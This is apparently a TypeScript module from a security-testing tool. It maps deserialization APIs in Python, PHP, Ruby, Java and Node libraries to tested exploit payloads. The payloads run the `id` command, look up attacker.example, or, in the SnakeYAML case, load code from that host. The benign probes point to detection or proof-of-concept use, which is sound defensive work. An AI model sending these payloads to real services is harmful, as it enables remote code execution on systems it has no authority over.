/**
 * Payloads for libraries that make objects of texts or bytes. Each was tried against its library: it runs `id`, asks
 * for the address of a host, or makes an object of a class that the sender chose.
 */
import { type Fitting, supports } from './payload.ts';

interface Serialized {
  /** The calls that read it, by the ends of their names. */
  api: RegExp;
  /** The text; base64 where `isBinary`. */
  value: string;
  where: string;
  isBinary?: true;
  /** What a request says of its body where that is the text. */
  bodyType?: string;
}

const looksUp = 'and asks for the address of attacker.example';
const ofJava = `as the serialized objects, a map that is filled ${looksUp}`;
const json = 'application/json';

const libraries: readonly Serialized[] = [
  {
    api: /jsonpickle/,
    value: '{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}',
    where: 'as the pickled object, which runs id',
    bodyType: json,
  },
  {
    api: /pickle|\bdill\b|joblib|shelve|pandas|torch|recv_pyobj/i,
    value: "cposix\nsystem\n(S'id'\ntR.",
    where: 'as the pickled object, which runs id',
    bodyType: 'application/octet-stream',
  },
  {
    api: /^yaml\.(?:unsafe_)?load(?:_all)?$|ruamel/,
    value: '!!python/object/apply:os.system ["id"]',
    where: 'as the document, which runs id',
    bodyType: 'application/yaml',
  },
  {
    api: /^(?:maybe_)?unserialize$|^<?(?:Magento|Laminas)\b.*\.unserialize$/,
    value: 'O:8:"DateTime":0:{}',
    where: 'as the serialized object; the class that it names refuses it, which shows that its code ran',
    bodyType: 'text/plain',
  },
  {
    api: /^(?:Psych|YAML)\./,
    value: '--- !ruby/object:Object {}',
    where: 'as the document, of which an object of the class becomes that it names',
    bodyType: 'application/yaml',
  },
  {
    api: /^Marshal\./,
    value: 'BAhvOgtPYmplY3QA',
    isBinary: true,
    where: 'as the marshalled object, of the class that it names',
  },
  {
    api: /XMLDecoder/,
    value:
      '<java><void class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></void></java>',
    where: 'as the document, which runs id',
    bodyType: 'application/xml',
  },
  {
    api: /XStream/,
    value: '<map><entry><url>http://attacker.example/</url><string/></entry></map>',
    where: `as the document, a map that is filled ${looksUp}`,
    bodyType: 'application/xml',
  },
  {
    api: /snakeyaml/,
    value:
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]',
    where: 'as the document, which looks for code at that address',
    bodyType: 'application/yaml',
  },
  {
    api: /fastjson/,
    value: '{"@type":"java.net.Inet4Address","val":"attacker.example"}',
    where: `as the object, which is of the class that it names ${looksUp}`,
    bodyType: json,
  },
  {
    api: /jackson/,
    value: '["java.net.InetAddress","attacker.example"]',
    where: `as the object, which is of the class that it names ${looksUp}`,
    bodyType: json,
  },
  {
    api: /ObjectInputStream|SerializationUtils/,
    value:
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAEGF0dGFja2VyLmV4YW1wbGV0AABxAH4ABXQABGh0dHBweHEAfgAGeA==',
    isBinary: true,
    where: ofJava,
  },
  {
    api: /node-serialize/,
    value: `{"x":"_$$ND_FUNC$$_function(){require('child_process').execSync('id')}()"}`,
    where: 'as the serialized object, which runs id',
    bodyType: json,
  },
  {
    api: /js-yaml/,
    value: 'toString: !!js/function "function(){return 49}"',
    where: 'as the document, whose function is called where the object is used as text',
    bodyType: 'application/yaml',
  },
];

export const serialized: Fitting = (_context, { sinkApi }) => {
  const found = libraries.find(({ api }) => api.test(sinkApi));
  if (!found) return null;
  const { value, where, isBinary, bodyType } = found;
  return {
    ...supports(value, where),
    isExample: true,
    ...(bodyType === undefined ? {} : { bodyType }),
    ...(isBinary ? { isBinary } : {}),
  };
};
